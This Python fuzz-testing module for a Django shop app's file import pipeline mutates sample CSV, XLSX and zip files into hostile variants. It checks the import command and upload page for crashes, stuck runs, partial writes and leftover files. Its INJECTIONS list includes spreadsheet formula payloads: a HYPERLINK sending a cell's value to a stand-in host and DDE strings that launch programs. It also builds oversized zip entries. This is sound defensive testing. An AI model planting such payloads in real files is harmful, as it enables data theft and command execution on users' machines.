"""The import fuzz campaign: hostile variants of every sample file, through the real
import path, and what each one left behind.

``mutate(rng)`` makes one hostile file from the samples in ``tests/data`` (byte flips,
truncation, zips whose headers lie about their sizes, huge fields, wrong encodings,
duplicated and missing columns, byte order marks, NULs, spreadsheet formulas, very wide
rows). ``Campaign`` sends each one through a boundary a seller meets — the ``merdeka
import`` command (``call_command``, exactly as the console script runs it) or the
upload page (a POST through the whole middleware stack, the task that imports it, the
run's page) — and checks what it left:

* **crashes**: an exception out of the command or the page, an error in the log (the
  pipeline's "unexpected error" refusal counts: a file must be refused for a reason), a
  page that does not answer 200/302, a file without a clean state;
* **stuck runs**: a run not ``done`` once its worker returned;
* **partial writes**: rows written (customers, orders, identities, anything but the
  import's own records and the audit log) by a file that was not imported;
* **files left behind**: a sealed upload of a file that does not wait for its columns,
  an unsealed working copy, an upload's temporary file.

The bench (``bench/fuzz_imports.py``) runs ten thousand of them; the suite a sample
(``test_fuzz.py``). Each file is made from ``Random(f"{seed}:{index}")`` alone, so one
finding is reproduced by its index.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import logging
import random
import re
import struct
import tempfile
import traceback
import warnings
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from django.apps import apps
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse

from merdeka.imports.mapping import upload_path
from merdeka.imports.models import ImportFile, ImportRun

DATA = Path(__file__).parent / "data"
CLEAN_STATES = {"imported", "rejected", "duplicate", "mapping"}
# the import's own records and what records that it happened are not "rows written"
NOT_WRITES = {
    "imports.importrun",
    "imports.importfile",
    "privacy.auditevent",
    "privacy.auditlog",
    "django_tasks_db.dbtaskresult",
    "sessions.session",
    # a shop's counters per RFM group: a shop's first import refresh creates them, at zero
    "customers.rfmgroupcount",
}
WRITE_APPS = {"core", "privacy", "customers", "catalog", "orders", "books", "outreach",
              "storefront", "preorders", "groupbuy", "cards"}  # fmt: skip


def samples() -> list[Path]:
    """Every sample file of the importers' tests (the generators aside)."""
    return sorted(p for p in DATA.rglob("*") if p.is_file() and p.suffix != ".py")


# -- mutations ------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '\uff1dHYPERLINK("http://evil.example")',
    "+6281234567890+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
ODD_VALUES = [
    "", " ", "-1", "0", "-0", "1e308", "NaN", "inf", "99999999999999999999999999",
    "1.000.000.000.000.000", "Rp-5.000", "2025-02-30", "31/13/2025 25:61", "0000-00-00",
    "\u202eakineV\u202c", "\u200b\u200b", "🙂" * 50, "null", "None", "true", "\x00", "\\",
    '"', "'", "؛", "\uff32\uff50\uff11\uff12\uff0e\uff15\uff10\uff10", "+62 812-3456-7890", "62812****7890", "0",
    "\ufeffOrder ID", "x" * 300,
]  # fmt: skip
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1", "utf-8-sig", "utf-32"]
BOMS = [codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF8 * 2]
STAMP = (2025, 1, 1, 0, 0, 0)
SUFFIXES = [".csv", ".xlsx", ".txt", ".zip", ".vcf", ".tsv", ".xls", ".json", ".jsonl", ""]


def _is_zip(data: bytes) -> bool:
    return data[:4] == b"PK\x03\x04"


def _decode(data: bytes) -> str:
    for bom, encoding in ((codecs.BOM_UTF16_LE, "utf-16"), (codecs.BOM_UTF16_BE, "utf-16")):
        if data.startswith(bom):
            return data.decode(encoding, errors="replace")
    return data.decode("utf-8-sig", errors="replace")


def _rows_of_text(text: str) -> tuple[list[list[str]], str]:
    head = text[:4096]
    delimiter = max([",", ";", "\t", "|"], key=head.count)
    return list(csv.reader(io.StringIO(text), delimiter=delimiter)), delimiter


def _text_of_rows(rows, delimiter: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def _xlsx_rows(data: bytes) -> list[list]:
    import openpyxl  # local: slow import, only for spreadsheets

    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    try:
        return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    finally:
        book.close()


def _xlsx_of_rows(rows) -> bytes:
    import openpyxl  # local: slow import, only for spreadsheets
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # local: as above

    book = openpyxl.Workbook()  # not write-only: that one leaves a temp file if it fails
    sheet = book.active
    for row in rows:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    out = io.BytesIO()
    book.save(out)
    return _stable_zip(out.getvalue())


def _stable_zip(data: bytes) -> bytes:
    """The same zip with fixed times (entries and the workbook's own dates), so that a
    seed makes the same bytes whenever it runs."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries:
            if name == "docProps/core.xml":
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2025-01-01T00:00:00Z", body)
            archive.writestr(zipfile.ZipInfo(name, date_time=STAMP), body)
    return out.getvalue()


def _table_op(rng: random.Random, rows: list[list]) -> tuple[list[list], str]:
    """One change to a table's rows and columns; returns the rows and its name."""
    rows = [list(r) for r in rows] or [[]]
    width = max((len(r) for r in rows), default=0)
    op = rng.choice(
        ["dup_column", "drop_column", "swap_columns", "blank_header", "huge_field",
         "injection", "odd_values", "dup_rows", "drop_rows", "header_only", "wide",
         "ragged", "header_twice"]
    )  # fmt: skip
    col = rng.randrange(width) if width else 0
    if op == "dup_column" and width:
        for r in rows:
            if col < len(r):
                r.insert(col, r[col])
    elif op == "drop_column" and width:
        for r in rows:
            if col < len(r):
                del r[col]
    elif op == "swap_columns" and width > 1:
        other = rng.randrange(width)
        for r in rows:
            if max(col, other) < len(r):
                r[col], r[other] = r[other], r[col]
    elif op == "blank_header" and rows[0]:
        rows[0][col % len(rows[0])] = rng.choice(["", " ", None, "\x00"])
    elif op == "huge_field":
        size = rng.choice([5_000, 100_000, 1_000_000]) if rng.random() > 0.01 else 11 * 2**20
        target = rows[rng.randrange(len(rows))]
        target.append("x") if not target else None
        target[rng.randrange(len(target))] = rng.choice('aZ9 ,;"\n') * size
    elif op in ("injection", "odd_values"):
        pool = INJECTIONS if op == "injection" else ODD_VALUES
        for _ in range(rng.randint(1, 12)):
            r = rows[rng.randrange(len(rows))]
            if r:
                r[rng.randrange(len(r))] = rng.choice(pool)
    elif op == "dup_rows" and len(rows) > 1:
        for _ in range(rng.randint(1, 5)):
            rows.insert(rng.randrange(1, len(rows) + 1), list(rows[rng.randrange(1, len(rows))]))
    elif op == "drop_rows" and len(rows) > 1:
        for _ in range(rng.randint(1, len(rows) - 1)):
            if len(rows) > 1:
                del rows[rng.randrange(1, len(rows))]
    elif op == "header_only":
        rows = rows[:1]
    elif op == "wide":
        extra = rng.choice([100, 1_999, 2_001, 5_000])
        rows[0] = rows[0] + [f"Kolom {i}" for i in range(extra)]
    elif op == "ragged" and len(rows) > 1:
        for r in rows[1:]:
            del r[rng.randrange(len(r) + 1) :]
    elif op == "header_twice":
        rows.insert(rng.randrange(1, len(rows) + 1), list(rows[0]))
    return rows, op


def _mutate_table(rng: random.Random, data: bytes, suffix: str) -> tuple[bytes, str]:
    if suffix == ".xlsx" and _is_zip(data):
        try:
            rows = _xlsx_rows(data)
        except Exception:
            return data, "table(unreadable)"
        rows, op = _table_op(rng, rows)
        return _xlsx_of_rows(rows), f"xlsx:{op}"
    text = _decode(data)
    rows, delimiter = _rows_of_text(text)
    rows, op = _table_op(rng, rows)
    return _text_of_rows(rows, delimiter).encode("utf-8"), f"table:{op}"


def _mutate_lines(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    lines = _decode(data).splitlines(keepends=True) or [""]
    op = rng.choice(["dup", "drop", "shuffle", "weird_line", "mangle_digits", "long_line",
                     "line_endings"])  # fmt: skip
    i = rng.randrange(len(lines))
    if op == "dup":
        lines.insert(i, lines[i])
    elif op == "drop":
        del lines[i]
    elif op == "shuffle":
        rng.shuffle(lines)
    elif op == "weird_line":
        lines.insert(i, rng.choice(ODD_VALUES + INJECTIONS) + "\n")
    elif op == "mangle_digits":
        chars = list(lines[i])
        for j, c in enumerate(chars):
            if c.isdigit() and rng.random() < 0.5:
                chars[j] = rng.choice("0123456789/:-.")
        lines[i] = "".join(chars)
    elif op == "long_line":
        lines.insert(i, "a" * rng.choice([10_000, 500_000]) + "\n")
    elif op == "line_endings":
        ending = rng.choice(["\r", "\r\n", "\n\n", "\u2028", "\x85"])
        lines = [line.rstrip("\r\n") + ending for line in lines]
    return "".join(lines).encode("utf-8"), f"lines:{op}"


def _zip_header_lie(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    """Rewrite what a zip's local headers and central directory say an entry's sizes are
    (understated, mostly: a chat export rewritten to claim 1,000 bytes)."""
    data = bytearray(data)
    where = rng.choice(["local", "central", "both"])
    lie = rng.choice(["understate", "zero", "overstate", "1000"])
    entries = []
    if where in ("local", "both"):
        entries += [(m, 18, 22) for m in _find_all(data, b"PK\x03\x04")]
    if where in ("central", "both"):
        entries += [(m, 20, 24) for m in _find_all(data, b"PK\x01\x02")]
    if not entries:
        return bytes(data), "zip_lie(none)"
    for start, compressed, uncompressed in rng.sample(entries, k=rng.randint(1, len(entries))):
        for offset in rng.sample([compressed, uncompressed], k=rng.randint(1, 2)):
            if start + offset + 4 > len(data):
                continue
            (value,) = struct.unpack_from("<I", data, start + offset)
            new = {
                "understate": value // rng.randint(2, 50),
                "zero": 0,
                "overstate": min(2**32 - 1, value * rng.randint(2, 10_000) + 1),
                "1000": 1000,
            }[lie]
            struct.pack_into("<I", data, start + offset, new)
    return bytes(data), f"zip_lie:{where}:{lie}"


def _find_all(data: bytes | bytearray, needle: bytes) -> list[int]:
    found, i = [], data.find(needle)
    while i != -1:
        found.append(i)
        i = data.find(needle, i + 1)
    return found


def _zip_entry_op(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    """Change the text inside a zip (a chat export, a spreadsheet's XML) and zip it again."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            entries = [(info, archive.read(info)) for info in archive.infolist()]
    except Exception:
        return data, "zip_entry(unreadable)"
    if not entries:
        return data, "zip_entry(empty)"
    i = rng.randrange(len(entries))
    info, content = entries[i]
    op = rng.choice(["flip", "truncate", "drop", "add_bomb", "encoding", "duplicate"])
    if op == "flip" and content:
        content = _flip(rng, content)
    elif op == "truncate":
        content = content[: rng.randrange(len(content) + 1)]
    elif op == "drop" and len(entries) > 1:
        del entries[i]
    elif op == "add_bomb":
        entries.append((zipfile.ZipInfo("bomb.txt"), b"0" * rng.choice([10**6, 30 * 10**6])))
    elif op == "encoding":
        content = _decode(content).encode(rng.choice(ENCODINGS), errors="replace")
    elif op == "duplicate":
        entries.append((info, content))
    if op not in ("drop", "add_bomb", "duplicate"):
        entries[i] = (info, content)
    out = io.BytesIO()
    with (
        warnings.catch_warnings(action="ignore"),  # a duplicated entry is the point
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for entry, body in entries:
            name = entry.filename if isinstance(entry, zipfile.ZipInfo) else str(entry)
            archive.writestr(zipfile.ZipInfo(name, date_time=STAMP), body)
    return out.getvalue(), f"zip_entry:{op}"


def _flip(rng: random.Random, data: bytes) -> bytes:
    data = bytearray(data)
    for _ in range(rng.randint(1, 16)):
        if data:
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(data)


def _byte_op(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    op = rng.choice(["flip", "truncate", "insert", "bom", "nul", "encoding", "empty",
                     "repeat"])  # fmt: skip
    if op == "flip":
        return _flip(rng, data), "bytes:flip"
    if op == "truncate":
        return data[: rng.randrange(len(data) + 1)], "bytes:truncate"
    if op == "insert":
        at = rng.randrange(len(data) + 1)
        return data[:at] + rng.randbytes(rng.randint(1, 64)) + data[at:], "bytes:insert"
    if op == "bom":
        return rng.choice(BOMS) + data, "bytes:bom"
    if op == "nul":
        data = bytearray(data)
        for _ in range(rng.randint(1, 20)):
            data.insert(rng.randrange(len(data) + 1), 0)
        return bytes(data), "bytes:nul"
    if op == "encoding":
        encoding = rng.choice(ENCODINGS)
        return _decode(data).encode(encoding, errors="replace"), f"bytes:encoding:{encoding}"
    if op == "empty":
        return b"", "bytes:empty"
    return data * rng.randint(2, 20), "bytes:repeat"


@dataclass
class Mutant:
    index: int
    sample: str
    name: str
    data: bytes
    steps: list[str]


def mutate(seed: int, index: int, pool: list[Path] | None = None) -> Mutant:
    """The ``index``-th hostile file of the campaign ``seed``."""
    rng = random.Random(f"{seed}:{index}")
    pool = pool or samples()
    sample = pool[index % len(pool)] if index < len(pool) else rng.choice(pool)
    data, name, steps = sample.read_bytes(), sample.name, []
    suffix = sample.suffix.lower()
    for _ in range(rng.choice([0, 1, 1, 1, 2, 2, 3]) if index >= len(pool) else 0):
        kinds = ["bytes", "bytes"]
        if _is_zip(data):
            kinds += ["zip_lie", "zip_lie", "zip_entry"]
        if suffix in (".csv", ".xlsx", ".tsv") or (suffix == ".txt" and "headers" in name):
            kinds += ["table", "table", "table"]
        if suffix in (".txt", ".vcf", ".csv"):
            kinds += ["lines"]
        kind = rng.choice(kinds)
        try:
            if kind == "bytes":
                data, step = _byte_op(rng, data)
            elif kind == "zip_lie":
                data, step = _zip_header_lie(rng, data)
            elif kind == "zip_entry":
                data, step = _zip_entry_op(rng, data)
            elif kind == "table":
                data, step = _mutate_table(rng, data, suffix)
            else:
                data, step = _mutate_lines(rng, data)
        except Exception as exc:
            step = f"{kind}(skipped: {type(exc).__name__})"
        steps.append(step)
    if rng.random() < 0.08:
        new_suffix = rng.choice(SUFFIXES)
        name = Path(name).stem + new_suffix
        steps.append(f"name:{new_suffix or 'none'}")
    return Mutant(index=index, sample=str(sample.relative_to(DATA)), name=name, data=data,
                  steps=steps)  # fmt: skip


# -- the campaign -------------------------------------------------------------------------------


class _ErrorLog(logging.Handler):
    def __init__(self):
        super().__init__(level=logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record):
        self.records.append(record)


@dataclass
class Finding:
    index: int
    kind: str  # crash, stuck, partial_write, left_behind
    boundary: str
    sample: str
    steps: list[str]
    detail: str

    def as_dict(self) -> dict:
        return self.__dict__


@dataclass
class Tally:
    files: int = 0
    by_boundary: Counter = field(default_factory=Counter)
    by_state: Counter = field(default_factory=Counter)
    findings: list[Finding] = field(default_factory=list)

    def counts(self) -> dict:
        kinds = Counter(f.kind for f in self.findings)
        return {k: kinds.get(k, 0) for k in ("crash", "stuck", "partial_write", "left_behind")}


def _written_models():
    return [
        m
        for m in apps.get_models()
        if m._meta.app_label in WRITE_APPS
        and m._meta.label_lower not in NOT_WRITES
        and not m._meta.proxy
        and m._meta.managed
    ]


def row_counts() -> dict[str, int]:
    """Rows of every table an import could write, in one query (the campaign asks twice a
    file)."""
    models = _written_models()
    tables = ", ".join(f'(SELECT COUNT(*) FROM "{m._meta.db_table}")' for m in models)
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {tables}")
        counts = cursor.fetchone()
    return {m._meta.label_lower: n for m, n in zip(models, counts, strict=True)}


def files_now() -> set[Path]:
    """The files an import could leave: sealed uploads and their plaintext working copies,
    upload temporaries, the temp folder."""
    found = set()
    uploads = Path(settings.DATA_DIR) / "uploads"
    if uploads.exists():
        found.update(p for p in uploads.rglob("*") if p.is_file())
    for folder in (Path(settings.FILE_UPLOAD_TEMP_DIR), Path(tempfile.gettempdir())):
        if folder.exists():
            found.update(folder.iterdir())
    return found


class Campaign:
    """Runs mutants through the import's boundaries in this process and tallies what went
    wrong. The database must be migrated; ``owner`` and ``shop`` are where files land (a
    fresh shop is made every ``shop_every`` files, so duplicates stay rare and the shop
    small). ``workdir`` holds the files the command is given; the temp folder must be
    private to this process (the bench gives each process its own)."""

    def __init__(self, *, owner, shop_factory, workdir: Path, shop_every: int = 200):
        self.owner = owner
        self.shop_factory = shop_factory
        self.shop = shop_factory(0)
        self.shop_every = shop_every
        self.workdir = Path(workdir)
        self.workdir.mkdir(parents=True, exist_ok=True)
        self.client = Client(SERVER_NAME="localhost")
        self.client.force_login(owner)
        self.errors = _ErrorLog()
        self.tally = Tally()
        self.pool = samples()

    def run(self, *, seed: int, indexes, progress=None, every: int = 100) -> Tally:
        root = logging.getLogger()
        root.addHandler(self.errors)
        quiet = logging.getLogger("django.request")
        was = quiet.level
        try:
            for n, index in enumerate(indexes):
                if n and n % self.shop_every == 0:
                    self.shop = self.shop_factory(n)
                self.one(mutate(seed, index, self.pool))
                if progress is not None and (n + 1) % every == 0:
                    progress(self.tally)
        finally:
            root.removeHandler(self.errors)
            quiet.setLevel(was)
        return self.tally

    def one(self, mutant: Mutant) -> None:
        boundary = "web" if mutant.index % 2 else "cli"
        self.tally.files += 1
        self.tally.by_boundary[boundary] += 1
        self.errors.records.clear()
        before = row_counts()
        files_before = files_now()
        runs_before = set(ImportRun.unscoped.values_list("pk", flat=True))

        def found(kind: str, detail: str) -> None:
            self.tally.findings.append(
                Finding(mutant.index, kind, boundary, mutant.sample, mutant.steps, detail[:2000])
            )

        try:
            if boundary == "cli":
                self._through_command(mutant, found)
            else:
                self._through_upload(mutant, found)
        except BaseException as exc:
            if isinstance(exc, KeyboardInterrupt):
                raise
            found("crash", "".join(traceback.format_exception(exc))[-2000:])
        for record in self.errors.records:
            found("crash", f"logged: {record.getMessage()}\n{record.exc_text or ''}"[-2000:])

        runs = ImportRun.unscoped.exclude(pk__in=runs_before)
        files = list(ImportFile.unscoped.filter(run__in=runs))
        for run in runs:
            if run.state != ImportRun.State.DONE:
                found("stuck", f"run {run.pk} is {run.state} {run.failure}")
        imported = False
        for record in files:
            self.tally.by_state[record.state] += 1
            imported |= record.state == ImportFile.State.IMPORTED
            if record.state not in CLEAN_STATES:
                found("stuck", f"file {record.pk} is {record.state}")
        if not files:
            found("crash", "no import file was recorded")
        if not imported:
            after = row_counts()
            changed = {k: (before[k], after[k]) for k in after if after[k] != before[k]}
            if changed:
                found("partial_write", json.dumps(changed))
        waiting = {upload_path(f) for f in files if f.state == ImportFile.State.MAPPING}
        left = sorted(str(p) for p in files_now() - files_before - waiting)
        if left:
            found("left_behind", ", ".join(left[:5]))
        for path in waiting:  # a file waiting for its columns keeps its upload; not ours
            path.unlink(missing_ok=True)

    def _through_command(self, mutant: Mutant, found) -> None:
        folder = self.workdir / str(mutant.index)
        folder.mkdir()
        path = folder / (mutant.name or "file")
        path.write_bytes(mutant.data)
        out, err = io.StringIO(), io.StringIO()
        try:
            call_command("import", str(path), shop=self.shop.slug, json=True, stdout=out,
                         stderr=err)  # fmt: skip
        except SystemExit as exc:
            if exc.code != 1:
                found("crash", f"the command exited with {exc.code}: {err.getvalue()[-500:]}")
        finally:
            path.unlink(missing_ok=True)
            folder.rmdir()
        report = json.loads(out.getvalue())
        for entry in report["files"]:
            if entry["state"] not in CLEAN_STATES:
                found("stuck", f"the command reported {entry['state']}")

    def _through_upload(self, mutant: Mutant, found) -> None:
        upload = SimpleUploadedFile(mutant.name or "file", mutant.data)
        response = self.client.post(reverse("import_home"), {"files": [upload]})
        if response.status_code != 302:
            found("crash", f"the upload answered {response.status_code}")
            return
        page = self.client.get(response["Location"])
        if page.status_code != 200:
            found("crash", f"the run's page answered {page.status_code}")
